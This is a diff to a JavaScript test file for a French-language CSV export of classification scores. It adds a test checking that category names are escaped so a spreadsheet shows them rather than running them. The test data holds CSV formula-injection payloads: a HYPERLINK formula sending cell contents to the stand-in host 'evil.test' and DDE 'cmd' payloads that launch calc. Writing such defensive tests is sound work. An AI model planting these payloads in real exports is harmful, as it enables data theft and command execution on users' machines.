@@ -61,13 +61,58 @@ describe('scoresCsv', () => {
     );
     expect(csv.startsWith('\uFEFF')).toBe(true);
     expect(csv.slice(1).split('\r\n')).toEqual([
-      'Type,Classification,VP,FP,FN,Précision,Sensibilité,Attendus,Détectés,Erreurs',
-      'Catégories du message,"Sinistre, ""auto""",3,1,0,0.75,1,3,4,1',
-      'Catégories du message,Résiliation,0,0,2,,0,2,0,2',
-      'Catégories du message,Total (micro),3,1,2,0.75,0.6,5,4,3',
-      'Catégories du message,Moyenne (macro),,,,0.75,0.5,,,',
-      'Catégories du message,Réclamation (NO_DOMAIN_RULE),,,,,,,,',
+      '"Type","Classification","VP","FP","FN","Précision","Sensibilité","Attendus","Détectés","Erreurs"',
+      '"Catégories du message","Sinistre, ""auto""",3,1,0,0.75,1,3,4,1',
+      '"Catégories du message","Résiliation",0,0,2,,0,2,0,2',
+      '"Catégories du message","Total (micro)",3,1,2,0.75,0.6,5,4,3',
+      '"Catégories du message","Moyenne (macro)",,,,0.75,0.5,,,',
+      '"Catégories du message","Réclamation (NO_DOMAIN_RULE)",,,,,,,,',
       '',
+    ]);
+  });
+
+  // docs/security.md, "Exports": a category is named by whoever configures the project; opened in a
+  // spreadsheet, the export must show that name, never run it.
+  it('writes no cell that a spreadsheet would run as a formula', () => {
+    const names = [
+      '=HYPERLINK("http://evil.test/?"&A1,"click")',
+      "+1+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const row = { tp: 1, fp: 0, fn: 0, precision: 1, sensitivity: 1, expected: 1, detected: 1, falses: 0 };
+    const csv = scoresCsv(
+      {
+        kinds: [
+          {
+            kind: 'categories',
+            classifications: names.map((classification) => ({ classification, ...row })),
+            micro: { tp: 6, fp: 0, fn: 0, precision: 1, sensitivity: 1 },
+            macro: { precision: 1, sensitivity: 1 },
+            qualifiedMessages: 6,
+            notQualifiedMessages: 0,
+            noDomainRule: [],
+          },
+        ],
+        domainRules: [],
+        falses: [],
+        messages: { done: 6, error: 0, notRun: 0 },
+      },
+      headers,
+      { kind: () => '@Catégories', micro: '=micro', macro: '-macro' },
+    );
+    const lines = csv.slice(1).split('\r\n');
+    expect(lines.slice(1, 9)).toEqual([
+      `"'@Catégories","'=HYPERLINK(""http://evil.test/?""&A1,""click"")",1,0,0,1,1,1,1,0`,
+      `"'@Catégories","'+1+cmd|' /C calc'!A0",1,0,0,1,1,1,1,0`,
+      `"'@Catégories","'-2+3+cmd|' /C calc'!A0",1,0,0,1,1,1,1,0`,
+      `"'@Catégories","'@SUM(1+1)*cmd|' /C calc'!A0",1,0,0,1,1,1,1,0`,
+      `"'@Catégories","'\t=1+1",1,0,0,1,1,1,1,0`,
+      `"'@Catégories","'\r=1+1",1,0,0,1,1,1,1,0`,
+      `"'@Catégories","'=micro",6,0,0,1,1,6,6,0`,
+      `"'@Catégories","'-macro",,,,1,1,,,`,
     ]);
   });
 });
